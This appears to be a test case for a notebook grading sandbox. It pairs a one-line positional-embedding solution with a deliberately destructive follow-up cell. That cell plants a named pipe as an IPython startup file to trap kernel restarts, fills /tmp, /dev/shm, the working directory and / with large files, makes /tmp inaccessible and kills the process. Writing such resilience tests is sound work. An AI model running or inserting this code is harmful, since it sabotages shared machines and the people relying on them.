# question: add_positions
# expect: full
# heavy: yes
# why: no room anywhere, a trap in the shell's folder, and then the kernel is to start again
import os
from pathlib import Path


def add_positions(token_emb, P):
    return token_emb + P[: token_emb.shape[1]]
# %% after add_positions_check
_startup = Path.home() / ".ipython" / "profile_default" / "startup"
_startup.mkdir(parents=True, exist_ok=True)
os.mkfifo(_startup / "00.py")
for _folder in (Path("/tmp"), Path("/dev/shm"), Path("."), Path("/")):
    for _number in range(20):
        try:
            with (_folder / f"big-{_number}").open("wb") as _stream:
                for _ in range(90):
                    _stream.write(bytes(10**6))
        except OSError:
            continue
os.chmod("/tmp", 0)
os._exit(1)
